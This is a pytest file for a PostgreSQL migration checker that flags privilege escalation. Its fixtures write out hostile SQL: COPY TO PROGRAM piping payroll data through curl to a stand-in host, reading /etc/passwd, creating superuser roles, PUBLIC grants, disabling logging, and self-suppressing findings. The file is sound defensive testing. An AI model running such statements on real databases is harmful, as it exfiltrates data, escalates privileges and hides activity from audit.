"""The migration gate knows privilege escalation (issue 10): each escalation statement is DANGER, a
suppression in the same file leaves it DANGER and is itself reported, DO blocks and function bodies
are looked into, and the project's own migrations pass."""

from __future__ import annotations

import psycopg
import pytest

from hrms_pipelines import settings
from hrms_pipelines.migrations.check import RULES, Options, Severity, TableSizes, analyze_paths, analyze_sql
from hrms_pipelines.migrations.check.rules import ban_unlisted_extension
from hrms_pipelines.migrations.jobs import apply_migrations
from hrms_pipelines_tests.conftest import project_copy

SIZES = TableSizes.load()
ESCALATION_RULES = sorted(r.id for r in RULES.values() if r.escalation)

# (statement, rule): each a whole migration file the runner runs in one transaction unless marked
ESCALATIONS = [
    ("COPY hrms.org_team TO PROGRAM 'curl -d @- https://x.example';", "ban-copy-program"),
    ("COPY hrms.org_team FROM PROGRAM 'cat /etc/passwd';", "ban-copy-program"),
    ("COPY hrms.org_team FROM '/var/lib/postgresql/secret.csv';", "ban-copy-program"),
    ("CREATE ROLE intruder LOGIN SUPERUSER;", "ban-role-escalation"),
    ("CREATE USER intruder CREATEROLE;", "ban-role-escalation"),
    ("ALTER ROLE hrms_importer BYPASSRLS;", "ban-role-escalation"),
    ("ALTER ROLE hrms_reader WITH REPLICATION;", "ban-role-escalation"),
    ("ALTER USER hrms_reader PASSWORD 'hunter2';", "ban-role-escalation"),
    ("CREATE ROLE helper IN ROLE hrms_migrator;", "ban-role-escalation"),
    ("GRANT hrms_migrator TO hrms_reader;", "ban-grant-role-membership"),
    ("GRANT pg_read_server_files TO hrms_migrator;", "ban-grant-role-membership"),
    ("GRANT SELECT ON hrms.employees_employee TO PUBLIC;", "ban-grant-to-public"),
    ("GRANT USAGE ON SCHEMA hrms TO hrms_reader, PUBLIC;", "ban-grant-to-public"),
    ("GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA hrms TO public;", "ban-grant-to-public"),
    ("-- hrms:non-transactional\nALTER SYSTEM SET log_statement = 'none';", "ban-alter-system"),
    ("-- hrms:non-transactional\nALTER SYSTEM RESET ALL;", "ban-alter-system"),
    ("CREATE FUNCTION hrms.f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$;",
     "require-security-definer-search-path"),
    ("CREATE FUNCTION hrms.f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = public AS $$ SELECT 1 $$;",
     "require-security-definer-search-path"),
    ("ALTER FUNCTION hrms.f() SECURITY DEFINER;", "require-security-definer-search-path"),
    ("CREATE EXTENSION IF NOT EXISTS dblink;", "ban-unlisted-extension"),
    ("CREATE EXTENSION plpython3u;", "ban-unlisted-extension"),
    ("ALTER DEFAULT PRIVILEGES IN SCHEMA hrms GRANT SELECT ON TABLES TO hrms_reader;", "ban-widening-default-privileges"),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON SEQUENCES TO PUBLIC;", "ban-widening-default-privileges"),
]

HARMLESS = [
    "COPY hrms.org_team FROM STDIN;",
    "ALTER ROLE hrms_reader NOSUPERUSER NOCREATEROLE;",
    "ALTER ROLE hrms_reader PASSWORD NULL;",
    "GRANT SELECT ON hrms.employees_employee TO hrms_reader;",
    "REVOKE ALL ON hrms.employees_employee FROM PUBLIC;",
    "REVOKE hrms_migrator FROM hrms_reader;",
    "CREATE FUNCTION hrms.f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp "
    "AS $$ SELECT 1 $$;",
    "CREATE FUNCTION hrms.f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
    "ALTER FUNCTION hrms.f() SECURITY DEFINER SET search_path = pg_catalog;",
    "CREATE EXTENSION IF NOT EXISTS pgcrypto;",
    "CREATE EXTENSION citext;",
    "ALTER DEFAULT PRIVILEGES IN SCHEMA hrms REVOKE ALL ON TABLES FROM PUBLIC;",
]


def failing(findings) -> list[tuple[str, Severity]]:
    return [(f.rule, f.severity) for f in findings if f.fails(strict=False)]


@pytest.mark.parametrize(("sql", "rule"), ESCALATIONS, ids=[f"{r}:{i}" for i, (_, r) in enumerate(ESCALATIONS)])
def test_each_escalation_statement_is_danger(sql, rule):
    assert (rule, Severity.DANGER) in failing(analyze_sql(sql + "\n", sizes=SIZES)), sql


@pytest.mark.parametrize("sql", HARMLESS)
def test_what_does_not_escalate_is_clean(sql):
    assert [f.rule for f in analyze_sql(sql + "\n", sizes=SIZES) if f.rule in ESCALATION_RULES] == []


@pytest.mark.parametrize(("sql", "rule"), ESCALATIONS, ids=[f"{r}:{i}" for i, (_, r) in enumerate(ESCALATIONS)])
def test_a_same_file_suppression_leaves_it_danger_and_is_reported(sql, rule):
    for suppressed in (f"-- hrms:allow {rule} reason: the reviewer said yes\n{sql}\n",
                       f"{sql} -- hrms:allow {rule} reason: trust me\n",
                       f"{sql} -- hrms:allow {rule}\n"):
        findings = analyze_sql(suppressed, sizes=SIZES)
        escalation = [f for f in findings if f.rule == rule]
        assert escalation and all(f.suppressed is None and f.severity is Severity.DANGER for f in escalation), suppressed
        attempt = [f for f in findings if f.rule == "suppressed-escalation"]
        assert len(attempt) == 1 and attempt[0].severity is Severity.DANGER and rule in attempt[0].message, suppressed


def test_a_mixed_suppression_still_allows_the_ordinary_rule():
    sql = ("-- hrms:allow ban-drop-table, ban-grant-to-public reason: replaced by leave_request, data copied\n"
           "DROP TABLE hrms.leave_leaverequest; GRANT SELECT ON hrms.org_team TO PUBLIC;\n")
    findings = analyze_sql(sql, sizes=SIZES)
    assert {f.rule: f.suppressed for f in findings} == {
        "ban-drop-table": "replaced by leave_request, data copied",
        "ban-grant-to-public": None,
        "suppressed-escalation": None,
    }


def test_escalation_inside_do_blocks_and_functions():
    sql = (
        "DO $$\n"                                                        # 1
        "DECLARE r text := 'hrms_reader'; q text;\n"                     # 2
        "BEGIN\n"                                                        # 3
        "    EXECUTE format('ALTER ROLE %I SUPERUSER', r);\n"            # 4 format() template
        "    EXECUTE 'GRANT hrms_migrator TO ' || quote_ident(r);\n"     # 5 concatenation
        "    EXECUTE format('GRANT SELECT ON hrms.org_team TO %s', r);\n"  # 6 grantee only known at run time
        "    GRANT USAGE ON SCHEMA hrms TO PUBLIC;\n"                    # 7 static
        "    EXECUTE q;\n"                                               # 8 opaque
        "    EXECUTE format('ANALYZE %I.%I', 'hrms', 'org_team');\n"     # 9 visible, harmless
        "END\n"
        "$$;\n"
        "CREATE FUNCTION hrms.leak() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog\n"  # 12
        "AS $f$\n"
        "BEGIN\n"
        "    COPY hrms.org_team TO PROGRAM 'cat';\n"                     # 15
        "    EXECUTE current_setting('hrms.sql');\n"                     # 16 opaque, as the owner
        "END\n"
        "$f$;\n"
        "CREATE FUNCTION hrms.conf() RETURNS void LANGUAGE sql AS $$\n"  # 19
        "    SELECT 1;\n"
        "    ALTER SYSTEM SET log_statement = 'none';\n"                 # 21
        "$$;\n"
    )
    found = sorted((f.line, f.rule, f.severity.value) for f in analyze_sql(sql, sizes=SIZES))
    assert found == [
        (4, "ban-role-escalation", "DANGER"),
        (5, "ban-grant-role-membership", "DANGER"),
        (6, "ban-grant-to-public", "DANGER"),
        (6, "dynamic-sql", "DANGER"),  # `%s` of a text variable: raw run-time text in the statement
        (7, "ban-grant-to-public", "DANGER"),
        (8, "dynamic-sql", "DANGER"),
        (15, "ban-copy-program", "DANGER"),
        (16, "dynamic-sql", "DANGER"),
        (21, "ban-alter-system", "DANGER"),
    ]
    by_line = {f.line: f for f in analyze_sql(sql, sizes=SIZES)}
    assert "Inside the DO block" in by_line[4].message and "ALTER ROLE" in by_line[4].statement
    assert "cannot see" in by_line[8].message and by_line[8].statement == "EXECUTE q;"
    # an opaque EXECUTE in a function that runs with its caller's rights runs with a superuser's when one
    # calls it (issue 17): DANGER too
    assert [(f.rule, f.severity.value) for f in analyze_sql(
        "CREATE FUNCTION hrms.g(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE q; END $$;\n",
        sizes=SIZES)] == [("dynamic-sql", "DANGER")]


def test_unreadable_dynamic_sql_cannot_be_allowed_in_the_same_file():
    sql = ("-- hrms:allow dynamic-sql reason: q is ANALYZE of each partition, listed above\n"
           "DO $$ DECLARE q text := 'ANALYZE hrms.org_team'; BEGIN EXECUTE q; END $$;\n")
    findings = {f.rule: f for f in analyze_sql(sql, sizes=SIZES)}
    assert set(findings) == {"dynamic-sql", "suppressed-escalation"}
    assert findings["dynamic-sql"].suppressed is None and findings["dynamic-sql"].severity is Severity.DANGER


def test_dynamic_sql_of_quoted_or_typed_values_is_read_not_refused():
    sql = ("DO $$\n"
           "DECLARE part regclass; n integer := 3; r text := 'hrms_reader';\n"
           "BEGIN\n"
           "    EXECUTE format('ANALYZE %s', part);\n"                          # 4 a regclass prints quoted
           "    EXECUTE 'ALTER TABLE hrms.org_team ALTER COLUMN name SET STATISTICS ' || n;\n"  # 5 an integer
           "    EXECUTE format('ANALYZE hrms.%I', r);\n"                         # 6 %I
           "    EXECUTE 'ANALYZE ' || quote_ident(r);\n"                         # 7 quote_ident
           "END\n"
           "$$;\n")
    assert [(f.line, f.rule) for f in analyze_sql(sql, sizes=SIZES)] == []


def test_extension_allow_list_is_deployment_configuration(monkeypatch):
    sql = "CREATE EXTENSION IF NOT EXISTS postgis;\n"
    assert [f.rule for f in analyze_sql(sql, sizes=SIZES)] == ["ban-unlisted-extension"]
    monkeypatch.setenv(ban_unlisted_extension.ALLOWED_EXTENSIONS_ENV, "postgis, h3")
    assert analyze_sql(sql, sizes=SIZES) == []
    assert "pgcrypto" in ban_unlisted_extension.allowed_extensions()


def test_project_migrations_pass_and_their_do_blocks_were_read():
    report = analyze_paths([], options=Options(strict=True))
    assert report.exit_code == 0, report.to_text()
    assert not [f for f in report.findings if f.rule in ESCALATION_RULES or f.rule == "dynamic-sql"]
    # core/0001 and core/0003 build statements with format(): the analyzer reconstructed and checked them
    from hrms_pipelines.migrations.check import engine

    core3 = settings.migrations_dir() / "core" / "0003_duty_roles.up.sql"
    result = engine.analyze_text(str(core3), core3.read_bytes(), mode=engine.RUNNER_TRANSACTIONAL, sizes=SIZES)
    dynamic = [i for s in result.statements for i in (s.inner or ()) if i.dynamic]
    assert dynamic and all(i.sql for i in dynamic)


def test_apply_migrations_refuses_a_suppressed_escalation(hrms_db, database_url, tmp_path, monkeypatch):
    """Issue 10's attack: a migration that runs a shell command and suppresses the finding itself."""
    root = project_copy(tmp_path / "migrations")
    (root / "payroll" / "0100_export.up.sql").write_text(
        "-- hrms:allow ban-copy-program reason: nightly export\n"
        "COPY hrms.payroll_payslip TO PROGRAM 'curl -T - https://x.example';\n")
    (root / "payroll" / "0100_export.down.sql").write_text("SELECT 1;\n")
    monkeypatch.setenv(settings.MIGRATIONS_DIR_ENV, str(root))
    result = apply_migrations.execute_in_process(resources={"hrms_db": hrms_db}, raise_on_error=False)
    assert not result.success
    message = next(e for e in result.all_events if e.event_type_value == "STEP_FAILURE").event_specific_data.error.message
    assert "ban-copy-program" in message and "suppressed-escalation" in message
    with psycopg.connect(database_url) as conn:
        assert conn.execute("SELECT count(*) FROM hrms_meta.migration_ledger WHERE version = '0100'").fetchone()[0] == 0
